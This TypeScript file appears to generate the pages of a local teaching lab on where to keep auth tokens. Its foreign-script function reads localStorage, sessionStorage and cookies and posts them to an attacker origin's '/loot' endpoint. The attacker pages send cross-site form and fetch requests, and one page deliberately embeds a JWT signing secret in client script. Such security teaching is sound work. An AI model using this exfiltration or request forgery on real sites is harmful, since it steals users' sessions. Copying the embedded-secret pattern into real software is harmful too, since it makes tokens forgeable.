/** The pages of the lab: plain HTML that works with a keyboard and a screen reader, and nothing from outside. */
import type { Origins } from './storage.ts'

const STYLE = `
  :root { color-scheme: light dark }
  body { font: 1.05rem/1.5 system-ui, sans-serif; max-width: 44rem; margin: 0 auto; padding: 0 1rem }
  h2 { font-size: 1.15rem; margin: 1.8rem 0 .3rem }
  main { padding-bottom: 2rem }
  button { font: inherit; padding: .3rem .8rem; margin: .2rem .4rem .2rem 0 }
  :focus-visible { outline: 3px solid Highlight; outline-offset: 2px }
  code, #log { font-family: ui-monospace, monospace; font-size: .92em; overflow-wrap: anywhere }
  #log { margin: 0; padding: .3rem .5rem .3rem 2.4rem }
  #log li { padding: .15rem 0 }
  strong.place { border: 1px solid; padding: .1rem .4rem }
  aside { position: sticky; bottom: 0; border-top: 3px solid; background: Canvas; padding-bottom: .5rem }
  aside h2 { margin: .3rem 0 }
  #told { max-height: 30vh; overflow-y: auto }
  @media (min-width: 64rem) {
    body { display: grid; grid-template-columns: minmax(0, 3fr) minmax(0, 2fr); gap: 2.5rem; max-width: 80rem }
    aside { top: 0; bottom: auto; border-top: 0; border-left: 3px solid; padding: 1rem; height: 100vh; box-sizing: border-box;
      display: flex; flex-direction: column }
    #told { max-height: none; flex: 1 }
  }`

/** What the servers say, on each page, as it happens: beside the page, or below it in a narrow window, the last line in sight. */
const LOG = `<aside>
<h2 id="what">What happened</h2>
<div id="told" role="log" aria-labelledby="what" tabindex="0"><ol id="log"></ol></div>
</aside>
<script>
  const told = document.getElementById('told')
  new EventSource('/log').onmessage = ({ data }) => {
    const line = document.createElement('li')
    line.textContent = data
    document.getElementById('log').append(line)
    told.scrollTop = told.scrollHeight
  }
</script>`

function html(title: string, body: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<title>${title}</title>
<style>${STYLE}</style>
<main>
<h1>${title}</h1>
${body}
</main>
${LOG}
</html>
`
}

const escaped = (text: string): string =>
  text.replace(/[&<>"]/g, character => `&#${character.charCodeAt(0)};`)

/** The app: log in, meet a foreign script, visit the attackers. */
export function appPage({ app, sibling, stranger }: Origins): string {
  return html(
    'Where to keep a token',
    `<p>This is your app, <strong class="place">${app}</strong>. The cookie is written and read by your
<code>server/cookie.ts</code>. After each save, the next click uses the new code.</p>

<h2>1. Log in</h2>
<p>The app hands out three tokens and keeps one in <code>localStorage</code>, one in
<code>sessionStorage</code>, and one in your cookie.</p>
<button id="login">Log in as ada</button> <button id="logout">Log out</button>

<h2>2. A foreign script</h2>
<p>The app puts a script of <code>${stranger}</code> into this page, as one puts in a widget or a
polyfill. It looks for tokens, sends them home, and then writes a note in your name.</p>
<button id="script">Run the foreign script</button>

<h2>3. Other pages</h2>
<ul>
  <li><a href="${sibling}/">A page of another port</a>: another origin, the same site</li>
  <li><a href="${stranger}/">A page of another site</a></li>
  <li><a href="/notes">Your notes</a></li>
</ul>
<form method="post" action="/notes"><input type="hidden" name="text" value="written by ada">
  <button>Write a note on your own page</button></form>

<h2>4. A token made in the page</h2>
<p><a href="/client-made">A page that makes its tokens itself</a>. Open its source.</p>
<script>
  const post = path => fetch(path, { method: 'POST' })
  document.getElementById('login').onclick = async () => {
    const { local, session } = await (await post('/login')).json()
    localStorage.setItem('token', local)
    sessionStorage.setItem('token', session)
    await fetch('/cookie-kept')
  }
  document.getElementById('logout').onclick = async () => {
    localStorage.removeItem('token')
    sessionStorage.removeItem('token')
    await post('/logout')
  }
  document.getElementById('script').onclick = () => {
    const script = document.createElement('script')
    script.src = '${stranger}/widget.js'
    document.body.append(script)
  }
</script>`,
  )
}

/** What the foreign script does in the page of the app. */
export function foreignScript({ stranger }: Origins): string {
  return `(async () => {
  const found = {
    localStorage: localStorage.getItem('token'),
    sessionStorage: sessionStorage.getItem('token'),
    cookie: document.cookie,
  }
  await fetch('${stranger}/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
  // It can't read the cookie, but this page is its page: the browser adds the cookie.
  await fetch('/notes', { method: 'POST', body: new URLSearchParams({ text: 'written by the foreign script' }) })
})()
`
}

/** A page of an attacker, with everything that it can make a browser send. */
export function attackerPage(kind: 'sibling' | 'stranger', { app, sibling, stranger }: Origins): string {
  const [title, own, about] =
    kind === 'sibling'
      ? [
          'A page of another port',
          sibling,
          'For your browser it is the same site as the app, and another origin.',
        ]
      : ['A page of another site', stranger, 'For your browser it is another site than the app.']
  return html(
    title,
    `<p>This is an attacker's page, <strong class="place">${own}</strong>. ${about}
It is open in the same browser as the app, <code>${app}</code>.</p>

<h2>Write in your name</h2>
<form method="post" action="${app}/notes"><input type="hidden" name="text" value="written by ${own}">
  <button id="form">Send a form</button></form>
<button id="fetch">Send a fetch</button>

<h2>Read</h2>
<p><a id="link" href="${app}/notes">Follow a link to your notes</a></p>

<h2>Forge</h2>
<button id="forge">Read the secret out of the page that makes its tokens itself</button>

<p><a href="${app}/">Back to the app</a></p>
<script>
  document.getElementById('fetch').onclick = () =>
    fetch('${app}/notes', {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      body: new URLSearchParams({ text: 'written by a fetch of ${own}' }),
    })
  document.getElementById('forge').onclick = () => fetch('/forge', { method: 'POST' })
</script>`,
  )
}

/** The notes, and what came of the last request. */
export function notesPage(outcome: string, notes: readonly string[]): string {
  const items = notes.map(note => `<li>${escaped(note)}</li>`).join('\n')
  return html(
    'Your notes',
    `<p id="outcome">${escaped(outcome)}</p>
<ul id="notes">${items === '' ? '<li>none yet</li>' : items}</ul>
<p><a href="/">Back to the app</a></p>`,
  )
}

/** A page that makes its tokens itself, as it should never be done. */
export function clientMadePage(secret: string): string {
  return html(
    'A token made in the page',
    `<p>This page signs its own tokens, so the secret has to be in it. Press Ctrl+U and look for
<code>SECRET</code>. Everybody who opens the page can make any token.</p>
<button id="make">Make a token</button>
<p><code id="token"></code></p>
<p id="answer" role="status"></p>
<p><a href="/">Back to the app</a></p>
<script>
  // Never do this.
  const SECRET = '${secret}'
  const encode = bytes => btoa(String.fromCharCode(...bytes)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
  const bytesOf = text => new TextEncoder().encode(text)
  const segment = value => encode(bytesOf(JSON.stringify(value)))
  document.getElementById('make').onclick = async () => {
    const algorithm = { name: 'HMAC', hash: 'SHA-256' }
    const key = await crypto.subtle.importKey('raw', bytesOf(SECRET), algorithm, false, ['sign'])
    const input = segment({ alg: 'HS256', typ: 'JWT' }) + '.' + segment({ sub: 'ada', role: 'user' })
    const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, bytesOf(input)))
    const token = input + '.' + encode(signature)
    document.getElementById('token').textContent = token
    const response = await fetch('/api/client-made', { headers: { Authorization: 'Bearer ' + token } })
    document.getElementById('answer').textContent = response.status + ' ' + (await response.text())
  }
</script>`,
  )
}
